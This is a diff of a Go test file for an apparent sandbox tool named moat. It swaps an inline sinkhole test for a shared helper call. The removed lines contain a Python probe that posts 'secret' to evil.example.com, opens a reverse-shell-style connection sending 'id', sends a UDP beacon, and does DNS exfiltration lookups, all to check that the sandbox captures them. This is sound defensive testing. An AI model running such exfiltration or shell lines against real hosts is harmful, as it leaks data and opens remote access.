@@ -6,12 +6,10 @@ import (
 	"context"
 	"errors"
 	"fmt"
-	"net"
 	"os"
 	"slices"
 	"strconv"
 	"strings"
-	"sync/atomic"
 	"testing"
 	"time"
 
@@ -237,100 +235,12 @@ func hasFinding(res *moat.Result, category, summary string) bool {
 	return false
 }
 
-// TestSinkhole: with --network sinkhole the guest sees a network where
-// every name resolves and every connection is answered by moat's sink in
-// the guest, and recorded; nothing reaches the host (a listener on the
-// host's loopback counts connections) or beyond.
+// TestSinkhole: the shared sinkhole case (moattest.Sinkhole): every name
+// resolves and every connection is answered by moat's sink in the guest,
+// and recorded; nothing reaches the host (a listener on the host's
+// loopback counts connections, also those to QEMU's 10.0.2.2) or beyond.
 func TestSinkhole(t *testing.T) {
-	b := moattest.RequireBackend(t, "microvm")
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer ln.Close()
-	var accepted atomic.Int32
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			accepted.Add(1)
-			c.Close()
-		}
-	}()
-	port := ln.Addr().(*net.TCPAddr).Port
-	prog := fmt.Sprintf(`
-import socket, ssl, urllib.request
-r = urllib.request.urlopen("http://evil.example.com/steal?x=1", data=b"secret", timeout=30)
-print("http", r.status, r.read())
-raw = socket.create_connection(("198.51.100.1", 443), timeout=30)
-t = ssl.create_default_context().wrap_socket(raw, server_hostname="bank.example")
-print("tls verified", t.getpeercert()["subject"])
-t.close()
-s = socket.create_connection(("203.0.113.9", 4444), timeout=30)
-s.sendall(b"id\n")
-s.close()
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-u.sendto(b"beacon", ("198.51.100.7", 9999))
-print("dns", socket.gethostbyname("exfil-label.exfil.example"))
-for host in ("10.0.2.2", "127.0.0.1"):
-    try:
-        socket.create_connection((host, %d), timeout=5).close()
-        print("connected", host)
-    except OSError as e:
-        print("refused", host, e.errno)
-`, port)
-	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", prog}, Network: moat.NetworkSinkhole})
-	if err != nil {
-		t.Fatalf("Run: %v", err)
-	}
-	if res.Status != moat.StatusExited || res.ExitCode != 0 {
-		t.Fatalf("result: %+v", res)
-	}
-	for _, w := range []string{"http 200 b''", "tls verified ((('commonName', 'bank.example'),),)", "dns 198.18.", "refused 127.0.0.1"} {
-		if !strings.Contains(res.Stdout, w) {
-			t.Errorf("stdout lacks %q:\n%s", w, res.Stdout)
-		}
-	}
-	event := func(kind string, want ...string) bool {
-		for _, e := range res.Events {
-			all := strings.Join([]string{e.Addr, e.Name, e.Detail, e.Path, e.Data}, "\x00")
-			ok := e.Source == "network" && string(e.Kind) == kind
-			for _, w := range want {
-				ok = ok && strings.Contains(all, w)
-			}
-			if ok {
-				return true
-			}
-		}
-		return false
-	}
-	for _, c := range []struct {
-		what string
-		ok   bool
-	}{
-		{"dns evil.example.com", event("dns", "evil.example.com", "sinkholed A 198.18.")},
-		{"http connect", event("connect", "evil.example.com", "host=evil.example.com", "/steal?x=1", "secret")},
-		{"tls sni", event("connect", "198.51.100.1:443", "sni=bank.example decrypted")},
-		{"reverse shell", event("connect", "203.0.113.9:4444", "sinkholed tcp", `id\n`)},
-		{"udp", event("connect", "198.51.100.7:9999", "sinkholed udp", "beacon")},
-		{"dns exfil label", event("dns", "exfil-label.exfil.example")},
-	} {
-		if !c.ok {
-			t.Errorf("no network event for %s; events %+v", c.what, res.Events)
-		}
-	}
-	if n := accepted.Load(); n != 0 {
-		t.Errorf("the host's 127.0.0.1:%d got %d connections from a sinkholed guest", port, n)
-	}
-	layer := false
-	for _, l := range res.Layers {
-		layer = layer || l.Name == "network-sinkhole"
-	}
-	if !layer {
-		t.Errorf("no network-sinkhole layer: %+v", res.Layers)
-	}
+	moattest.Sinkhole(t, moattest.RequireBackend(t, "microvm"), nil)
 }
 
 // TestImage: with --image the guest's root is the image's file system and
